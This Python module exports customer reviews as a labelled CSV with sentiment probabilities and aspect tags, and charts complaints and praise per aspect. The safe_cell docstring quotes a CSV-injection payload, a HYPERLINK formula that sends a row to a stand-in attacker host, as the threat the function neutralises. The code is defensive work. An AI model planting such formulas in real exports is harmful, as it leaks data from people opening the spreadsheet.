"""The triage report of a review export: the labelled CSV and a chart.

`labelled_csv` is what `xiaoer analyze` writes and what the bot sends back for an upload: the
input columns plus label, p_negative, p_neutral, p_positive, aspects and aspect_sentiment
(`logistics:+;quality:-`, when the clause tagger is loaded), one row per input row,
UTF-8 with a BOM so that Excel opens it; every cell goes through `safe_cell`, so that
customer text such as `=HYPERLINK(...)` is shown, never run. `chart_png` draws the label counts
and, per aspect, complaints and praise with matplotlib (Agg, no display); it blocks, so the bot
calls it on a thread. Chinese labels use Noto Sans CJK SC from the `mplfonts` package (OFL), so
a fresh machine draws them without system fonts; should it be missing, an installed CJK font
(WenQuanYi, Source Han, ...) is used, and without any the chart is drawn in English.
"""

from __future__ import annotations

import csv
import importlib.util
import io
import re
import threading
from collections.abc import Sequence
from functools import cache
from pathlib import Path

from bot.i18n import ASPECTS_EN
from bot.tables import Table
from nlp.digest import ReviewDigest
from nlp.types import ASPECTS, LABELS, Language, Sentiment

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
EXTRA_COLUMNS = ["label", *(f"p_{label}" for label in LABELS), "aspects", "aspect_sentiment"]
CJK_FONT_HINTS = (
    "CJK",
    "WenQuanYi",
    "Source Han",
    "SimHei",
    "Microsoft YaHei",
    "PingFang",
    "Heiti",
    "Droid Sans Fallback",
    "AR PL",
)


_draw_lock = threading.Lock()  # matplotlib's font cache is shared; draw one chart at a time
_LABEL_NAMES = {
    "zh": {"negative": "差评", "neutral": "中评", "positive": "好评"},
    "en": {"negative": "negative", "neutral": "neutral", "positive": "positive"},
}
_TITLES = {
    "zh": ("评价分布", "各方面的吐槽与好评", "条", "吐槽", "好评"),
    "en": ("Sentiment", "Complaints and praise by aspect", "reviews", "complaints", "praise"),
}
_COLOURS = {"negative": "#d9534f", "neutral": "#f0ad4e", "positive": "#5cb85c"}


def safe_cell(value: str) -> str:
    """A cell as text that spreadsheets show and never run (OWASP "CSV injection").

    Excel, LibreOffice and Sheets take a cell that starts with = + - @ (or a tab or CR before
    one) as a formula: `=HYPERLINK("http://evil.example/?"&B1,"详情")` in a review would leak
    the row when clicked. Such a cell gets a leading apostrophe; a plain number ("-5", "+3.5")
    cannot run and is kept as it is. Every table we write goes through here.
    """
    if value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(cells: Sequence[str]) -> list[str]:
    return [safe_cell(c) for c in cells]


def labelled_csv(table: Table, results: Sequence[Sentiment | None]) -> bytes:
    """The table with the classifier's columns added; empty reviews keep empty labels."""
    columns = [c if c not in EXTRA_COLUMNS else f"input_{c}" for c in table.columns]
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow(safe_row(columns + EXTRA_COLUMNS))
    for row, s in zip(table.rows, results, strict=True):
        if s is None:
            writer.writerow(safe_row(row + [""] * len(EXTRA_COLUMNS)))
        else:
            probs = [f"{s.probs[label]:.4f}" for label in LABELS]
            polarity = ";".join(
                f"{a}:{'+' if v > 0 else '-' if v < 0 else '0'}" for a, v in s.aspect_polarity
            )
            writer.writerow(safe_row([*row, s.label, *probs, ";".join(s.aspects), polarity]))
    return out.getvalue().encode("utf-8-sig")  # BOM: Excel opens it as UTF-8


BUNDLED_FONT = "NotoSansCJKsc-Regular.otf"  # in the mplfonts package (SIL Open Font License)


def bundled_font_path() -> Path | None:
    """Noto Sans CJK SC from the `mplfonts` package (a dependency), without importing it."""
    spec = importlib.util.find_spec("mplfonts")
    if spec is None or spec.origin is None:
        return None
    path = Path(spec.origin).parent / "fonts" / BUNDLED_FONT
    return path if path.is_file() else None


@cache
def cjk_font() -> str | None:
    """The name of a font that renders Chinese: the bundled Noto Sans CJK SC (registered with
    matplotlib on first use), else an installed one, else None."""
    from matplotlib import font_manager

    bundled = bundled_font_path()
    if bundled is not None:
        font_manager.fontManager.addfont(str(bundled))
        return str(font_manager.FontProperties(fname=str(bundled)).get_name())
    for font in font_manager.fontManager.ttflist:
        if any(hint.lower() in font.name.lower() for hint in CJK_FONT_HINTS):
            return str(font.name)
    return None


def chart_png(summary: ReviewDigest, lang: Language, top: int = 6) -> bytes:
    """Label counts, and complaints and praise per aspect, as a PNG (blocking: call on a thread)."""
    import matplotlib

    matplotlib.use("Agg")
    from matplotlib.figure import Figure
    from matplotlib.ticker import MaxNLocator

    with _draw_lock:
        font = cjk_font()
        shown: Language = lang if font is not None else "en"
        names, titles = _LABEL_NAMES[shown], _TITLES[shown]
        family = [font, "DejaVu Sans"] if font is not None else ["DejaVu Sans"]
        # rcParams are global; the lock makes this the only chart being drawn
        with matplotlib.rc_context(
            {"font.family": family, "axes.spines.top": False, "axes.spines.right": False}
        ):
            fig = Figure(figsize=(8, 3.6), dpi=110, layout="constrained")
            ax1, ax2 = fig.subplots(1, 2, width_ratios=[2, 3])
            bars = ax1.bar(
                [names[label] for label in LABELS],
                [summary.counts[label] for label in LABELS],
                color=[_COLOURS[label] for label in LABELS],
            )
            ax1.bar_label(bars)
            ax1.set_title(titles[0])
            # the aspects complained about most, then the most praised, up to `top`; largest on top
            shown_aspects = [a for a in summary.aspects if a.negative > 0][:top]
            praised = sorted((a for a in summary.aspects if a.positive > 0), key=lambda a: -a.positive)
            shown_aspects += [a for a in praised if a not in shown_aspects][: top - len(shown_aspects)]
            shown_aspects = shown_aspects[::-1]
            aspect_names = ASPECTS if shown == "zh" else ASPECTS_EN
            ys = range(len(shown_aspects))
            ax2.barh(
                [y + 0.2 for y in ys],
                [a.negative for a in shown_aspects],
                height=0.4,
                color=_COLOURS["negative"],
                label=titles[3],
            )
            ax2.barh(
                [y - 0.2 for y in ys],
                [a.positive for a in shown_aspects],
                height=0.4,
                color=_COLOURS["positive"],
                label=titles[4],
            )
            ax2.set_yticks(list(ys), [aspect_names.get(a.aspect, a.aspect) for a in shown_aspects])
            if shown_aspects:
                ax2.legend(loc="best", frameon=False)
            ax2.set_title(titles[1])
            ax2.set_xlabel(titles[2])
            ax1.yaxis.set_major_locator(MaxNLocator(integer=True))  # counts of reviews
            ax2.xaxis.set_major_locator(MaxNLocator(integer=True))
            buf = io.BytesIO()
            fig.savefig(buf, format="png")
    return buf.getvalue()
